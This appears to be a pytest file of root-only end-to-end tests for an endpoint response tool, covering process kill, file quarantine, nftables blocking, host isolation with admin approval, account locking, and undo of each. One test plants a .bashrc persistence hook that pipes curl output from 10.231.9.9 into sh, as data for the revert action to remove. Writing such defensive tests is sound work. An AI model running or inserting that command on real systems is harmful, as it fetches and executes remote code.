"""End to end on this host (root): a real manager (uvicorn on 127.0.0.1, HTTPS) and the
agent's command runner with a real responder. The API kills a real process (gone),
quarantines a real file (moved, then restored byte for byte by an undo), blocks an address
in nftables inside a network namespace of the test's own (rule present, then gone after the
undo), isolates the host there after an admin's approval (table ``inet provarmor`` with its
drop chains, gone after the release) and locks a temporary account (password locked,
expired, its session ended; the entry restored exactly by the undo); the allow-list still
refuses pid 1 whoever asks; a command delivered again after its report was lost runs once;
a command that arrives expired is refused, not run. The nftables and account cases run
under the shared lock (``flock /tmp/provarmor-live.lock pytest ...``)."""

import os
import shutil
import ssl
import subprocess
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import msgspec
import pytest

from provarmor.manager.actions import Command, CommandKind
from provarmor.manager.auth import Role
from provarmor.manager.client import ManagerClient
from provarmor.manager.command_runner import CommandRunner
from provarmor.manager.routes.tokens import create_token
from provarmor.response.action import build_context
from provarmor.response.audit import Phase, read_audit
from provarmor.response.policy import Policy
from provarmor.response.records import ActionKind, ActionRequest, FileTarget, Outcome
from provarmor.response.responder import Responder
from provarmor.response.settings import ResponseSettings
from provarmor.sources.procfs import read_process

pytestmark = pytest.mark.privileged
NAMESPACE = f"pa-actions-{os.getpid()}"
INSIDE = ("ip", "netns", "exec", NAMESPACE, "nft")


def wait_for(condition: Callable[[], bool], *, what: str, timeout: float = 5.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.02)


@dataclass
class Setup:
    runner: CommandRunner
    api: httpx.Client
    analyst: str
    admin: str

    def call(self, path: str, token: str, body: dict | None = None) -> httpx.Response:
        headers = {"Authorization": f"Bearer {token}"}
        return self.api.post(f"/api/v1{path}", json=body or {}, headers=headers)

    def act(self, kind: str, target: dict, token: str = "") -> str:
        """Propose and execute; the action id."""
        answer = self.call(
            "/actions",
            token or self.analyst,
            {"kind": kind, "target": target, "host_id": self.runner.responder.context.host.id},
        )
        assert answer.status_code == 201, answer.text
        action = answer.json()["id"]
        answer = self.call(f"/actions/{action}/execute", token or self.analyst)
        assert answer.status_code == 200, answer.text
        return action

    def action(self, action_id: str) -> dict:
        headers = {"Authorization": f"Bearer {self.analyst}"}
        return self.api.get(f"/api/v1/actions/{action_id}", headers=headers).json()


@pytest.fixture
def namespace() -> Iterator[str]:
    """A network namespace of this test's own: nftables changes never reach the host."""
    if shutil.which("nft") is None or shutil.which("ip") is None:
        pytest.skip("nftables or iproute2 is not installed (scripts/bootstrap.sh installs them)")
    subprocess.run(["ip", "netns", "add", NAMESPACE], check=True)
    yield NAMESPACE
    subprocess.run(["ip", "netns", "delete", NAMESPACE], check=True)


@pytest.fixture
def nft_command() -> tuple[str, ...]:
    """The nftables command of the responder (the host's own; a test that blocks overrides
    it to act inside its namespace)."""
    return ("nft",)


@pytest.fixture
def setup(https_server, tmp_path: Path, nft_command) -> Iterator[Setup]:
    if os.geteuid() != 0:
        pytest.skip("response actions need root (signals to any process, chown, nftables)")
    store = https_server["store"]
    settings = ResponseSettings(state_dir=tmp_path / "response", nft_command=nft_command)
    context = build_context(settings)
    client = ManagerClient(https_server["url"], ca_file=https_server["ca"])
    client.enroll(create_token(store, role=Role.ENROLL).token, host_id=context.host.id)
    runner = CommandRunner(client=client, responder=Responder.open(Policy(), context))
    trust = ssl.create_default_context(cafile=str(https_server["ca"]))
    api = httpx.Client(base_url=https_server["url"], verify=trust)
    yield Setup(
        runner=runner,
        api=api,
        analyst=create_token(store, role=Role.ANALYST).token,
        admin=create_token(store, role=Role.ADMIN).token,
    )
    api.close()
    client.close()


def process_target(pid: int, setup: Setup) -> dict:
    context = setup.runner.responder.context
    info = read_process(pid, clock=context.clock)
    assert info is not None
    return {"type": "process", "entity_id": info.entity_id(context.host), "pid": pid}


def test_the_api_kills_a_real_process(setup):
    victim = subprocess.Popen(["sleep", "300"], start_new_session=True)
    try:
        action = setup.act("kill", process_target(victim.pid, setup))
        assert setup.runner.poll() == 1
        assert victim.wait(timeout=5) == -9
        view = setup.action(action)
        assert view["state"] == "done", view
        assert str(victim.pid) in view["result"]["affected"]
    finally:
        victim.kill()
        victim.wait()


def test_the_allow_list_holds_for_commands_from_the_manager(setup):
    action = setup.act("kill", process_target(1, setup))
    setup.runner.poll()
    view = setup.action(action)
    assert (view["state"], view["result"]["outcome"]) == ("refused", "refused")
    assert Path("/proc/1").exists()


def test_the_api_quarantines_a_real_file_and_an_undo_restores_it(setup, tmp_path):
    path = tmp_path / "drop" / "implant"
    path.parent.mkdir()
    content = os.urandom(50_000)
    path.write_bytes(content)
    path.chmod(0o750)
    action = setup.act("quarantine", {"type": "file", "path": str(path)})
    setup.runner.poll()
    assert setup.action(action)["state"] == "done"
    assert not path.exists()
    undo = setup.call(f"/actions/{action}/undo", setup.analyst)
    assert undo.status_code == 200, undo.text
    setup.runner.poll()
    view = setup.action(action)
    assert view["state"] == "undone", view
    assert path.read_bytes() == content
    assert path.stat().st_mode & 0o777 == 0o750
    assert [s["step"] for s in view["audit"]][-2:] == ["undo delivered", "undo result"]


def test_the_api_reverts_a_persistence_file_and_an_undo_puts_the_lines_back(setup, tmp_path):
    rc = tmp_path / "home" / ".bashrc"
    rc.parent.mkdir()
    rc.write_bytes(b"alias ll='ls -l'\nexport EDITOR=vi\n")
    original = rc.read_bytes()
    settings = ResponseSettings(state_dir=tmp_path / "rc-response", persistence_files=(str(rc),))
    responder = Responder.open(Policy(), build_context(settings))
    responder.keep_baseline()  # as the agent does when it starts
    runner = CommandRunner(client=setup.runner.client, responder=responder)
    hook = b"nohup sh -c 'curl -s http://10.231.9.9/x | sh' >/dev/null 2>&1 &\n"
    with rc.open("ab") as handle:
        handle.write(hook)
    action = setup.act("revert_file", {"type": "persistence_file", "path": str(rc)})
    assert runner.poll() == 1
    view = setup.action(action)
    assert view["state"] == "done", view
    assert rc.read_bytes() == original
    undo = setup.call(f"/actions/{action}/undo", setup.analyst)
    assert undo.status_code == 200, undo.text
    runner.poll()
    assert setup.action(action)["state"] == "undone"
    assert rc.read_bytes() == original + hook


def ruleset() -> str:
    done = subprocess.run([*INSIDE, "list", "ruleset"], capture_output=True, text=True, check=True)
    return done.stdout


@pytest.mark.parametrize("nft_command", [INSIDE])
def test_the_api_blocks_an_address_and_an_undo_unblocks_it(namespace, setup):
    action = setup.act("block", {"type": "network", "ip": "10.231.9.9", "port": 4444})
    setup.runner.poll()
    view = setup.action(action)
    assert view["state"] == "done", view
    assert "10.231.9.9 . 4444" in ruleset()
    assert setup.call(f"/actions/{action}/undo", setup.analyst).status_code == 200
    setup.runner.poll()
    assert setup.action(action)["state"] == "undone"
    assert "10.231.9.9" not in ruleset()


def test_isolation_waits_for_an_admin(setup):
    answer = setup.call(
        "/actions",
        setup.analyst,
        {
            "kind": "isolate",
            "target": {"type": "host"},
            "host_id": setup.runner.responder.context.host.id,
        },
    )
    action = answer.json()["id"]
    assert setup.call(f"/actions/{action}/approve", setup.analyst).status_code == 403
    assert setup.call(f"/actions/{action}/execute", setup.analyst).status_code == 409
    assert setup.runner.poll() == 0  # nothing reached the agent


def test_a_redelivered_command_runs_once(setup, tmp_path):
    path = tmp_path / "twice"
    path.write_bytes(b"payload")
    action = setup.act("quarantine", {"type": "file", "path": str(path)})
    (command,) = setup.runner.client.commands()
    first = setup.runner.run(command)  # ran; its report is lost
    assert first.outcome is Outcome.DONE
    assert setup.action(action)["state"] == "delivered"
    assert setup.runner.poll() == 1  # delivered again: answered from the trail
    assert setup.runner.counters["commands.repeated"] == 1
    view = setup.action(action)
    assert (view["state"], view["deliveries"]) == ("done", 2)
    assert view["result"]["undo_target"] == msgspec.to_builtins(first.undo_target)
    records, _ = read_audit(setup.runner.responder.audit.path)
    executing = [r for r in records if r.phase is Phase.EXECUTING and r.request.id == action]
    assert len(executing) == 1


def test_a_command_that_arrives_expired_is_not_run(setup, tmp_path):
    path = tmp_path / "late"
    path.write_bytes(b"keep")
    request = ActionRequest(
        id="act-late",
        kind=ActionKind.QUARANTINE,
        target=FileTarget(path=str(path)),
        requested_by="t",
    )
    command = Command(
        id="act-late", command=CommandKind.RUN, request=request, expires_ns=time.time_ns() - 1
    )
    result = setup.runner.run(command)
    assert result.outcome is Outcome.REFUSED
    assert "expired" in result.message
    assert path.read_bytes() == b"keep"
    assert setup.runner.counters["commands.expired"] == 1


def approved(setup: Setup, kind: str, target: dict) -> str:
    """Propose as an analyst, approve as an admin, execute as the analyst: the action id."""
    host = setup.runner.responder.context.host.id
    answer = setup.call(
        "/actions", setup.analyst, {"kind": kind, "target": target, "host_id": host}
    )
    assert answer.status_code == 201, answer.text
    action = answer.json()["id"]
    assert setup.call(f"/actions/{action}/approve", setup.admin).status_code == 200
    assert setup.call(f"/actions/{action}/execute", setup.analyst).status_code == 200
    return action


def provarmor_table() -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*INSIDE, "list", "table", "inet", "provarmor"], capture_output=True, text=True, check=False
    )


@pytest.mark.parametrize("nft_command", [INSIDE])
def test_the_api_isolates_the_host_and_an_undo_releases_it(namespace, setup):
    action = approved(setup, "isolate", {"type": "host"})
    assert setup.runner.poll() == 1
    view = setup.action(action)
    assert view["state"] == "done", view
    table = provarmor_table()
    assert table.returncode == 0, table.stderr
    assert "chain isolate_input" in table.stdout and "policy drop" in table.stdout
    assert setup.call(f"/actions/{action}/undo", setup.analyst).status_code == 200
    setup.runner.poll()
    view = setup.action(action)
    assert view["state"] == "undone", view
    assert "isolate_input" not in provarmor_table().stdout
    steps = [(s["step"], s["author"].split(":")[0]) for s in view["audit"]]
    assert steps == [
        ("proposed", "analyst"),
        ("approved", "admin"),
        ("executed", "analyst"),
        ("run delivered", "agent"),
        ("result", "agent"),
        ("undo (release)", "analyst"),
        ("undo delivered", "agent"),
        ("undo result", "agent"),
    ]


def shadow(name: str) -> list[str]:
    found = subprocess.run(["getent", "shadow", name], capture_output=True, text=True, check=True)
    return found.stdout.strip().split(":")


@pytest.fixture
def account() -> Iterator[str]:
    """A temporary account with a password and an expiry, removed afterwards."""
    name = f"pamgr{os.getpid() % 100000}"
    subprocess.run(["useradd", "--no-create-home", "-e", "2099-01-01", name], check=True)
    try:
        subprocess.run(["chpasswd"], input=f"{name}:Correct-Horse-7", text=True, check=True)
        yield name
    finally:
        subprocess.run(["pkill", "-KILL", "-u", name], check=False)
        subprocess.run(["userdel", name], check=False, capture_output=True)


def test_the_api_locks_a_user_and_an_undo_unlocks_it(setup, account):
    before = shadow(account)
    session = subprocess.Popen(["runuser", "-u", account, "--", "sleep", "300"])
    try:
        action = approved(setup, "lock_user", {"type": "user", "name": account})
        assert setup.runner.poll() == 1
        view = setup.action(action)
        assert view["state"] == "done", view
        locked = shadow(account)
        assert locked[1].startswith("!") and locked[7] == "0"  # password locked, expired
        session.wait(timeout=10)  # its session was ended
        assert setup.call(f"/actions/{action}/undo", setup.analyst).status_code == 200
        setup.runner.poll()
        assert setup.action(action)["state"] == "undone"
        assert shadow(account) == before
    finally:
        session.kill()
        session.wait()
